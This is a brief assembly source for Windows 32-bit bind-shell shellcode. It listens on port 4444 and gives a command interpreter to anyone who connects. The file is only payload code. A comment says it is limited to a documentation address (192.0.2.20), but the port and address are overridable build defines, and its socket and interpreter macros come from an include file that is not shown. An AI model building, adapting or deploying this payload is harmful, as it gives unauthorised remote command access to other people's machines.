; Windows, IA-32: a command interpreter for whoever connects to port 4444. It binds the decoy's documentation
; address (192.0.2.20, RFC 5737) only, so that it works on no machine that exists.
bits 32
%ifndef PORT
%define PORT 4444
%define ADDRESS 0x140200c0
%endif
%include "demo_socket.inc"
HASH bind_socket, 'bind'
HASH listen_socket, 'listen'
HASH accept_socket, 'accept'

	NEW_SOCKET
	NAME_SOCKET bind_socket
	push listen_socket
	push edi
	call ebp
	push byte 1
	push esi
	call eax
	push accept_socket
	push edi
	call ebp
	push byte 0
	push byte 0
	push esi
	call eax
	mov esi, eax
	INTERPRETER
